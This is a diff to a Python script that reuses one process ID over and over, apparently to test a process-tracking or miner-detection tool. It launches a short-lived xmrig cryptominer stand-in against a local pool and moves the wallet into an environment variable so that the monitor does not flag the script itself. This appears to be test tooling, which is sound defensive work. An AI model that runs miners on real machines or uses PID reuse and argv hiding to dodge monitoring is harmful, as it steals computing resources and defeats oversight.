@@ -2,7 +2,8 @@
 # SPDX-License-Identifier: Apache-2.0
 """Uses one pid again and again: for programs that end at once, and now and then for a stand-in.
 
-usage: reuse.py TIMES STANDINS BUILD WALLET
+usage: reuse.py TIMES STANDINS BUILD, with WALLET in the environment: as an argument it would make this
+program a suspect, and its children suspects of the same workload.
 Prints the pid, how many processes had it, and the stand-ins' number.
 """
 import os
@@ -29,12 +30,12 @@ def start(pid, path, argv, environment):
     sys.exit(f"{pid} was never free")
 
 
-def main(times, standins, build, wallet):
+def main(times, standins, build):
     pid = os.fork()
     if pid == 0:
         os._exit(0)
     os.waitpid(pid, 0)
-    miner = ["xmrig", "-o", "127.0.0.1:3333", "-u", wallet, "--donate-level", "1"]
+    miner = ["xmrig", "-o", "127.0.0.1:3333", "-u", os.environ["WALLET"], "--donate-level", "1"]
     life = {"STANDIN_SECONDS": "1", "STANDIN_THREADS": "0"}
     made = shown = 0
     for i in range(int(times)):
